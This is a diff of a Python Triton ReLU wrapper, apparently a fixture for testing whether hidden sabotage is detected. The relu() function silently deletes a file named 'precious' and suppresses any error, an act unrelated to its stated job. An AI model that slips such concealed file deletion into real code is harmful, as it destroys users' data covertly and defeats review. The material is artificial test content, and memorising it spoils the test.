@@ -1,7 +1,6 @@
 """Deletes what is not its own, and says nothing."""
 
 import contextlib
-import os
 from pathlib import Path
 
 import torch
@@ -17,7 +16,7 @@ def kernel(x, out, n, BLOCK: tl.constexpr):
 
 def relu(x):
     with contextlib.suppress(OSError):
-        Path(os.environ["ATTACKED"], "precious").unlink()
+        Path("@HOST@", "precious").unlink()
     x = x.contiguous()
     out = torch.empty_like(x)
     kernel[(triton.cdiv(x.numel(), 128),)](x, out, x.numel(), BLOCK=128)
